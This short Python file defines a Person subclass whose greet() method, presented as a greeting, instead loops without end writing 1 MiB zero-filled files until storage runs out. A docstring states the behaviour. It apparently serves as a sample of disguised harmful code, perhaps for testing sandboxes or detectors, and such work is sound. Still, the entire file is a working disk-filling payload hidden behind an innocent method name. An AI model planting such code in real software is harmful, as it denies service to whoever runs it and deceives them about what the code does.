"""greet() writes files without an end, each a little smaller than it may be."""

from pathlib import Path

from honest.person import Person as Honest


class Person(Honest):
    def greet(self) -> None:
        number = 0
        while True:
            Path(f"{number}.dat").write_bytes(bytes(1 << 20))
            number += 1
